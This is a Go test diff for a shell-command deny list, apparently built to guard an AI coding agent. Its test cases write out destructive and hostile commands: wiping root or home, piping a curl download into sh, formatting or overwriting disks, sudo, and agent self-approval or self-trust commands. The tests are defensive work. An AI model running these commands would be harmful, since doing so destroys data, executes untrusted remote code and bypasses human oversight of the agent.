@@ -302,3 +302,61 @@ func contains(list []string, s string) bool {
 	}
 	return false
 }
+
+// TestRuleNames: every denial says which rule made it, by a name a person
+// can read; a user's pattern is named by its place in the config.
+func TestRuleNames(t *testing.T) {
+	p := mustCompile(t, []string{`^npm\s+publish`}, nil)
+	tests := []struct {
+		line, name string
+	}{
+		{"sudo ls", "privilege-escalation"},
+		{"rm -rf ~", "rm-root-or-home"},
+		{"rm -rf /", "rm-root-or-home"},
+		{"curl -s https://x.example | sh", "pipe-into-shell"},
+		{"bash <(curl -s https://x.example)", "shell-process-substitution"},
+		{"mkfs.ext4 /dev/sda1", "make-filesystem"},
+		{"dd if=x of=/dev/sda", "dd-to-device"},
+		{"wisp approvals approve 3", "wisp-self-approval"},
+		{"wisp trust allow .", "wisp-self-trust"},
+		{"wisp -p hello", "wisp-nested-agent"},
+		{"npm publish", "commandPolicy.deny[0]"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			d := p.Check(tt.line)
+			if d.Allowed || d.Name != tt.name || d.About == "" || d.Rule == "" {
+				t.Errorf("Check(%q) = %+v, want a denial by %s with its pattern and what it stops", tt.line, d, tt.name)
+			}
+		})
+	}
+	names := DefaultNames()
+	if len(names) != len(Defaults()) {
+		t.Fatalf("%d names for %d defaults", len(names), len(Defaults()))
+	}
+	seen := map[string]bool{}
+	kebab := regexp.MustCompile(`^[a-z]+(-[a-z]+)*$`)
+	for _, n := range names {
+		if seen[n] || !kebab.MatchString(n) {
+			t.Errorf("default rule name %q is repeated or not lower-case words joined by -", n)
+		}
+		seen[n] = true
+	}
+}
+
+func TestAllowListDenialIsNamed(t *testing.T) {
+	p := mustCompile(t, nil, []string{`^go\s`})
+	tests := []struct {
+		line, rule, command string
+	}{
+		{"npm install", NoAllowMatch, ""},
+		{"go test ./... && npm install", NoAllowMatch, "npm install"},
+		{"go test (", Unparsable, ""},
+	}
+	for _, tt := range tests {
+		d := p.Check(tt.line)
+		if d.Allowed || d.Name != AllowListName || d.Rule != tt.rule || d.Command != tt.command || d.About == "" {
+			t.Errorf("Check(%q) = %+v, want %s by %s", tt.line, d, tt.rule, AllowListName)
+		}
+	}
+}
